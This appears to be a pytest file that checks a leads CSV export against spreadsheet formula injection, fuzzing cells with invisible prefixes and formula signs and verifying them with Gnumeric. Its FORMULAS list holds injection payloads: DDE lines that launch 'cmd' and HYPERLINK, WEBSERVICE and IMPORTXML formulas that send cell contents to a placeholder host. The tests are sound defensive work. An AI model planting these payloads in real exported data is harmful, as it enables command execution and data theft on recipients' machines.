"""Hostile cells in the spreadsheet of leads: none is a formula to any program, and none breaks out of its cell."""

import csv
import io
import random
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path

import httpx
import pytest

from hairline.compose import Hairline
from tests.attacks.forms import count, report
from tests.web.conftest import STAFF, app, client, hairline, overrides, parts, running  # noqa: F401
from tests.web.leads import put_lead

pytestmark = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True, scope="session")

SEED = 29
CELLS_OF_ONE = 10
PREFIXES = (
    "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u202e", "\u2066", "\x00", "\x0b",
    "\x0c", "\x1f", "'", '"', '""', '";', '",', ";", ",", '"\n', "\u2028", "\u0085", "\u180e", "\u2007", "\u00ad",
)  # fmt: skip
SIGNS = (
    "=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe63", "\ufe66", "\ufe6b", "\u2212",
    "=+", "==", "+-@",
)  # fmt: skip
FORMULAS = (
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://canary.invalid/?"&A1,"x")',
    "1+1",
    "SUM(1;2)",
    'WEBSERVICE("http://canary.invalid")',
    'IMPORTXML(CONCAT("http://canary.invalid/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "1",
    "2+5+cmd|'/C calc'!A0",
)


def hostile_cell(chance: random.Random) -> str:
    """Something that a spreadsheet might run."""
    prefix = "".join(chance.choices(PREFIXES, k=chance.choice((0, 1, 1, 2))))
    cell = prefix + chance.choice(SIGNS) + chance.choice(FORMULAS)
    return cell + chance.choice(("", "", "\n" + cell, '","' + cell, "\t" + cell, ";" + cell, '"\r\n"' + cell))


def is_live(cell: str) -> bool:
    """Whether some program may take the cell for a formula: by its first character that is to be seen."""
    plain = unicodedata.normalize("NFKC", cell)
    while plain and (plain[0] in "\"'" or unicodedata.category(plain[0]) in ("Zs", "Cf", "Zl", "Zp", "Cc")):
        if plain[0] in "\t\r'":
            return plain[0] != "'"  # an apostrophe makes it text
        plain = plain[1:]
    return plain[:1] in tuple("=+-@") or plain[:1] == "\u2212"


def formulas_in(table: str, folder: Path) -> int | None:
    """How many formulas a real spreadsheet program finds in a file; None where there is none on this machine."""
    program = shutil.which("ssconvert")
    if program is None:
        return None
    source, target = folder / "leads.csv", folder / "leads.xml"
    source.write_bytes(table.encode())
    formats = ["--import-type=Gnumeric_stf:stf_csvtab", "--import-encoding=UTF-8", "--export-type=Gnumeric_XmlIO:sax:0"]
    subprocess.run([program, *formats, str(source), str(target)], check=True, capture_output=True)
    # A value has a ValueType; what begins with = and has none is a formula. Odd characters make it no XML to a parser.
    cells = re.findall(rb"<gnm:Cell ([^>]*)>([^<]*)", target.read_bytes())
    assert cells, "the program read nothing"
    return sum(1 for attributes, text in cells if b"ValueType" not in attributes and text.startswith(b"="))


def test_no_cell_is_live(
    client: httpx.Client,  # noqa: F811
    hairline: Hairline,  # noqa: F811
    tmp_path: Path,
) -> None:
    chance = random.Random(SEED)
    leads = -(-count(300, 10_000) // CELLS_OF_ONE)
    before = len(_rows(client.get("/api/leads.csv", headers=STAFF).text))
    for _ in range(leads):
        name, email, concern, time, page, assignee, question, topic, note, consent = (
            hostile_cell(chance) for _ in range(CELLS_OF_ONE)
        )
        put_lead(
            hairline,
            name=name,
            email=email,
            concern_text=concern,
            time_text=time,
            page=page,
            assignee=assignee,
            open_questions=[question],
            questions=[topic],
            notes=[{"text": note, "by": "x", "at": "x"}],
            consent={"given": True, "text": "x", "version": consent, "at": None},
        )
    table = client.get("/api/leads.csv", headers=STAFF).raise_for_status().text
    rows = _rows(table)
    assert len(rows) == before + leads, "a cell broke out of its line"
    assert len({len(row) for row in rows}) == 1, "a cell broke out of its column"
    live = [cell for row in rows for cell in row if is_live(cell)]
    assert not live, live[:20]
    found = formulas_in(table, tmp_path)
    assert not found
    seen = "no spreadsheet program at hand" if found is None else f"{found} formulas to Gnumeric"
    report("spreadsheet", f"{leads * CELLS_OF_ONE} hostile cells: none live, {seen}")


def _rows(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")))


def test_a_naive_export_is_live(store_url: str, tmp_path: Path) -> None:
    chance = random.Random(SEED)
    cells = [hostile_cell(chance).replace("\x00", "") for _ in range(count(300, 10_000))]
    written = io.StringIO()
    csv.writer(written).writerows([cell] for cell in cells)
    live = sum(is_live(cell) for cell in cells)
    assert live > len(cells) / 3
    found = formulas_in(written.getvalue(), tmp_path)
    assert found is None or found > 0
    report("spreadsheet", f"a naive export fails: {live} of {len(cells)} cells live by the rule, to Gnumeric {found}")
